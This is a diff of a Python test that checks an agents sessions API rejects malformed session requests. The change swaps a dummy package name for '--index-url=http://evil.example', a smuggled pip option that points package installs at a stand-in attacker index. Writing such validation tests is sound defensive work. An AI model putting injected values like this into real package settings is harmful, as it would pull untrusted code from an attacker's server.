@@ -189,7 +189,7 @@ def test_malformed_json_body(cma):
 def test_validation_errors_do_not_create_anything(client):
     before = len(list(client.beta.agents.sessions.list(limit=100)))
     _bad_request(
-        lambda: client.beta.agents.sessions.create(agent={"model": MODEL}, environment={"type": "openai_hosted", "packages": {"python": ["x"]}}, input="hi")
+        lambda: client.beta.agents.sessions.create(agent={"model": MODEL}, environment={"type": "openai_hosted", "packages": {"python": ["--index-url=http://evil.example"]}}, input="hi")
     )
     _bad_request(lambda: client.beta.agents.sessions.create(agent={"model": MODEL}, environment={"type": "none"}, input="hi", extra_body={"zzz": 1}))
     assert len(list(client.beta.agents.sessions.list(limit=100))) == before
